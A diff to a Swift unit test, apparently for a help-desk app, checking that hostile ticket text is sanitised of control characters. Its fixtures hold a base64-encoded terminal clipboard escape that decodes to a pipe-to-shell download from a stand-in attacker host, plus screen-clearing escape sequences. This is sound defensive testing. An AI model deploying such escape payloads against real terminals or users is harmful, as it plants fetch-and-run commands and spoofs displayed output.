@@ -64,7 +64,12 @@ import TickettyCore
     @Test func hostileServerTextIsSanitised() async throws {
         try await DemoDesk.with(ticketCount: 10, hostileSamples: true) { desk in
             let page = try await desk.backend.listTickets(TicketQuery(limit: 9999))
-            let isControl: (Unicode.Scalar) -> Bool = { $0.value < 0x20 || (0x7F..<0xA0).contains($0.value) }
+            let isControl: (Unicode.Scalar) -> Bool = {
+                $0.value < 0x20 || (0x7F..<0xA0).contains($0.value) || $0.value == 0x202E
+            }
+            // The samples arrived, defused: escapes shown as "^[" instead of acted on.
+            #expect(page.tickets.contains { $0.title == "Invoice overdue ^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^Gplease pay" })
+            #expect(page.tickets.contains { $0.customerName == "Mallory^[[2J Evil^[[H" })
             for ticket in page.tickets {
                 for text in [ticket.title, ticket.customerName, ticket.customerAddress, ticket.channel] + ticket.tags {
                     #expect(!text.unicodeScalars.contains(where: isControl), "ticket \(ticket.id)")
